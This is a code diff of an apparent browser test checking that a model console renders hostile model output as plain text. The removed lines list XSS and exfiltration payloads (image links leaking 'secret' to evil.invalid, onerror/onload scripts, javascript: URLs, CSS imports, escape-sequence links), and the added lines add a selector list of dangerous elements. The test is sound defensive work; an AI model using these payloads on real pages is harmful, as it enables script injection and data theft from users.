@@ -1,49 +1,58 @@
-// Outputs that would carry data away, run or freeze the page, streamed piece by piece: none of them asks another origin for anything, opens a
-// dialog, is reported by the policy of the page or becomes an element.
+// Outputs that would carry data away, run or freeze the page, streamed character by character: none of them asks another origin for
+// anything, opens a dialog, is reported by the policy of the page, becomes an element or keeps the page from answering.
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { hostileOutputs } from '../../console/src/markdown/hostile-outputs.ts';
+import { pretendAdmitted, servedBy } from '../../src/gateway/testing.ts';
 import { hasBrowser, type ServedConsole, serveConsole } from './served-console.ts';
 
-const outputs = [
-  '![x](https://evil.invalid/?q=secret) ![y](//evil.invalid/y.png)',
-  '<img src="https://evil.invalid/x" onerror="alert(1)"><script>alert(2)</script>',
-  '<svg onload="alert(3)"><use href="https://evil.invalid/a#b"/></svg>',
-  '[click](javascript:alert(4)) <javascript:alert(5)> [d](data:text/html,<script>alert(6)</script>)',
-  '<iframe src="https://evil.invalid"></iframe><form action="https://evil.invalid"><input autofocus></form>',
-  '<style>@import "https://evil.invalid/x.css"; body { display: none }</style>',
-  '[r]: https://evil.invalid/ref\n\n![r][r] [r]',
-  '\u001b[31mred\u001b]8;;https://evil.invalid\u0007link\u001b]8;;\u0007 \u202eevil\u202c',
-  '```html\n<script>alert(7)</script>\n',
-  '| a | b |\n|---|---|\n| ![x](https://evil.invalid/t) | <b onclick="alert(8)">c</b> |',
-  '$$\\href{javascript:alert(9)}{x} \\includegraphics{https://evil.invalid/f}',
-  `${'>'.repeat(300)} deep`,
-];
+/** Pages that take turns: a page at a time would wait for what is drawn twenty times a second. */
+const pages = 5;
+const elements =
+  '.turn :is(img, script, iframe, form, style, input, object, embed, video, audio, svg:not(.i), math, [onclick], [href^="javascript" i])';
 
 describe.skipIf(!hasBrowser)('what a model writes (skipped: there is no Chromium)', () => {
   let served: ServedConsole;
-  let next = 0;
   beforeAll(async () => {
-    served = await serveConsole({
-      reply: () => {
-        const output = outputs[next++] as string;
-        return [...output, '</think>', ...output];
+    const sampling = { temperature: 0, topP: 1, maxTokens: 10_000 };
+    served = await serveConsole(
+      {
+        reply: (request) => {
+          const [, place] = /Output number (\d+)\./.exec(JSON.stringify(request)) ?? [];
+          const output = hostileOutputs[Number(place)] as string;
+          return [...output, '</think>', ...output];
+        },
+        ...{ contextLength: 1_000_000, slots: pages },
       },
-    });
+      { served: (engine) => servedBy(engine, pretendAdmitted(undefined, { sampling })) },
+    );
   });
   afterAll(() => served[Symbol.asyncDispose]());
 
   test('stays text', async () => {
-    const { page, faults } = await served.open();
+    const shares = Array.from({ length: pages }, (_, share) =>
+      hostileOutputs.map((_output, place) => place).filter((place) => place % pages === share),
+    );
+    const found = await Promise.all(shares.map(see));
+    expect(found.flatMap(({ shown }) => shown)).toHaveLength(hostileOutputs.length);
+    expect(found.flatMap(({ faults }) => faults)).toEqual([]);
+  }, 400_000);
+
+  async function see(places: readonly number[]) {
+    const { page, context, faults } = await served.open();
     await page.goto(await served.signInUrl());
-    await page.locator('a[href="/console/playground"]').click();
-    for (const [place] of outputs.entries()) {
-      await page.getByRole('textbox').fill('x');
+    await page.locator('.nav a[href="/console/playground"]').click();
+    const shown: number[] = [];
+    const more: string[] = [];
+    for (const place of places) {
+      await page.locator('textarea').fill(`Output number ${place}.`);
       await page.keyboard.press('Enter');
-      await page.locator('.turn').nth(place).getByText('Done').waitFor();
+      await page.locator('.turn').getByText('Done').waitFor();
+      if ((await page.locator(elements).count()) > 0) more.push(`an element of output ${place}`);
+      shown.push(place);
+      await page.getByRole('button', { name: 'New' }).click();
+      await page.locator('.turn').waitFor({ state: 'detached' });
     }
-    expect(next).toBe(outputs.length);
-    const elements =
-      '.turn :is(img, script, iframe, form, style, input, object, video, [onclick], [href^="javascript"])';
-    expect(await page.locator(elements).count()).toBe(0);
-    expect(faults).toEqual([]);
-  }, 90_000);
+    await context.close();
+    return { shown, faults: [...faults, ...more] };
+  }
 });
